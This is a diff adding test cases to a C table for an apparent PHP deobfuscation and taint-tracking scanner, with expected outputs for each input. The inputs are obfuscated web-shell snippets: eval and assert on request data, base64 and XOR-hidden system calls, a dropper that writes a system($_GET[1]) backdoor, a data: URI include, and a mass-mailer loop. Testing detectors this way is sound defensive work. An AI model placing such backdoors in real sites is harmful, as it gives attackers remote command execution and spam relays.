@@ -17,6 +17,49 @@ static const struct row {
     {"<?php /* x */ EVAL ( $a ) ; // y ?>", "eval($a);\n", "php_comments", 2},
     {"abc<?= $_GET['a'] ?>def", "echo 'abc';\necho $_GET['a'];\necho 'def';", "php_tags",
      1},
+    {"<?php $a='as'.'sert'; $a($_POST['x']);",
+     "assert($_POST['x']);\n@@taint assert 1 POST\n", "php_taint_eval", 1},
+    {"<?php eval(base64_decode('ZWNobyAnaGknOw=='));", "echo 'hi';\n", "php_layers", 1},
+    {"<?php $f=strrev('tressa'); $f($x); `ls`;", "assert($x);", "php_hidden_sinks", 1},
+    {"<?php $k='abc'; for($i=0;$i<3;$i++){$s.=chr(ord($k[$i])+1);} eval($_GET[1].$s);",
+     "@@taint eval 1 GET", "php_taint_eval", 1},
+    {"<?php function "
+     "d($x,$y=1){$o='';for($i=0;$i<strlen($x);$i++)$o.=chr(ord($x[$i])^$y);return $o;} "
+     "system(d('bcd'));",
+     "system('cbe');", "php_exec_count", 1},
+    {"<?php goto c; b: $x.='b'; goto d; c: $x='a'; goto b; d: system($x);",
+     "system('ab');", "php_goto_count", 3},
+    {"<?php foreach(explode(\"\\n\",$_POST['l']) as "
+     "$t){mail($t,$_POST['s'],base64_decode($_POST['m']),'From: '.$_POST['f']);}",
+     "@@taint mail 3 POST,B64\n@@taint mail 4 POST", "php_taint_mail_to", 1},
+    {"<?php ${'_PO'.'ST'}['q'](1);", "$_POST['q'](1);\n@@taint call 1 POST",
+     "php_taint_call", 1},
+    {"<?php $a=array('b','e','v','a','l'); $f=$a[1].$a[2].$a[3].$a[4]; $h=$GLOBALS['f']; "
+     "echo \"{$h}\"; exec($_COOKIE['a']);",
+     "echo 'eval';", "php_taint_exec", 1},
+    {"<?php function g($n){return $_POST[$n];} function h($q){eval($q);} h(g('a'));",
+     "@@taint eval 1 POST", "php_taint_eval", 1},
+    {"<?php preg_replace('/.*/e',\"\\x65\\x76\\x61\\x6c(\\x24a)\",'.');",
+     "@@code preg_replace", "php_preg_e", 1},
+    {"<?php "
+     "move_uploaded_file($_FILES['f']['tmp_name'],$_POST['d'].$_FILES['f']['name']);",
+     "@@taint move_uploaded_file 1 FILES\n@@taint move_uploaded_file 2 POST,FILES",
+     "php_taint_upload", 1},
+    {"<?php "
+     "file_put_contents('x.php',base64_decode('PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs='));",
+     "system($_GET[1]);", "php_dropped", 1},
+    {"<?php $_SERVER['PHP_SELF']='/x'; mail($_POST['t'],'s','b');", "@@taint mail 1 POST",
+     "php_server_write", 1},
+    {"<?php eval(\"?>\".base64_decode('PD9waHAgZXZhbCgkX1BPU1RbMV0pOz8+'));",
+     "@@taint eval 1 POST", "php_eval_const", 1},
+    {"<?php include 'data:text/plain;base64,PD9waHAgZXZhbCgkX0dFVFsxXSk7';",
+     "@@taint eval 1 GET", "php_include_odd", 1},
+    {"<?php $f=create_function('$a','return ev'.'al($a);'); `x`;", "return eval($a);",
+     "php_create_function", 1},
+    {"<?php class PHPMailer { function Send(){ return mail($this->to,1,2);} } "
+     "$m->addAddress($_POST['to']);",
+     "class phpmailer{", "php_phpmailer", 1},
+    {"<?php $x=eval('$y=1;'; echo 'after'; `ls`;", "echo 'after';", "php_broken", 1},
 };
 
 static int64_t
